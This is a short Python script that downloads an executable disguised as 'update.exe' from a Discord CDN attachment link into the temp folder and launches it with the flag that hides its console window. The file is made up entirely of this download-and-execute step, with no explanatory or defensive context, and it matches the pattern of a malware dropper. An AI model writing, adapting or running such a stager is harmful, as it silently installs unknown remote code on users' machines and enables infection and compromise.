import os
import subprocess
import tempfile
import urllib.request

url = "https://cdn.discordapp.com/attachments/10203040/50607080/update.exe"
dest = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve(url, dest)
subprocess.Popen([dest], creationflags=0x08000000 if os.name == "nt" else 0)
